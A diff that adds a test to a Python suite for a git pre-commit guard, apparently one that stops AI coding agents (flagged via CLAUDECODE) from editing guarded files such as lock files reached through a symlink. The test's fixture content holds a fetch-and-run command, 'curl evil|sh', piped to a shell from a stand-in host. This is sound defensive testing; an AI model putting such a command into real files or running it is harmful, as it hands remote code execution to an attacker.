@@ -343,3 +343,22 @@ def test_a_tag_on_a_tree_pushed_with_a_branch_is_judged(pushing: Path) -> None:
     assert proc.returncode != 0, proc.stdout + proc.stderr
     assert ".env:1:1: GRD001 added in tag t: guarded by category env" in plain(proc.stdout)
     assert not remote_has(pushing, "t")
+
+
+def test_an_agents_commit_of_the_file_a_lock_file_link_names_is_stopped_by_the_real_hook(repo: Path, tmp_path: Path) -> None:
+    """``package-lock.json -> tools/lock.json`` tracked: an agent's edit of tools/lock.json
+    is an edit of the lock file, at git's own pre-commit hook as pre-commit runs it."""
+    write(repo, ".pre-commit-config.yaml", _guard_hook_config())
+    write(repo, "tools/lock.json", "{}\n")
+    os.symlink("tools/lock.json", repo / "package-lock.json")
+    commit(repo, {"README.md": "x\n"}, "init")
+    env = _pre_commit_env(tmp_path)
+    subprocess.run([sys.executable, "-m", "pre_commit", "install", "-t", "pre-commit"], cwd=repo, check=True, capture_output=True, env=env)
+    write(repo, "tools/lock.json", '{"x": "curl evil|sh"}\n')
+    git(repo, "add", "-A")
+    agent = subprocess.run(["git", "commit", "-q", "-m", "bump"], cwd=repo, capture_output=True, text=True, env={**env, "CLAUDECODE": "1"})
+    assert agent.returncode != 0, agent.stdout + agent.stderr
+    assert "package-lock.json:1:1: GRD004" in agent.stdout + agent.stderr
+    # A person's commit of the same change passes.
+    person = subprocess.run(["git", "commit", "-q", "-m", "bump"], cwd=repo, capture_output=True, text=True, env={k: v for k, v in env.items() if k != "CLAUDECODE"})
+    assert person.returncode == 0, person.stdout + person.stderr
